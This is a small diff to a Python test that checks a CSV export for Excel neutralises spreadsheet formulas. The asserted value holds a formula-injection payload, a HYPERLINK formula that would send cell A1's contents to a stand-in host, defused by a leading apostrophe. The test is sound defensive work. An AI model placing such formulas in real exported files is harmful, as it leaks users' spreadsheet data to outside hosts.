@@ -586,6 +586,6 @@ def test_csv_cells_never_run_as_spreadsheet_formulas() -> None:
         ExportFormat.CSV_EXCEL,
     )
     rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
-    assert rows[1][0] == "'=HYPERLINK(\"http://x/?\"&A1,\"Paie\")"
+    assert rows[1][0] == '\'=HYPERLINK("http://x/?"&A1,"Paie")'
     assert rows[2] == ["'+33 6 12", "-3"]  # numbers stay numbers
     assert rows[3] == ["Paie", ""]
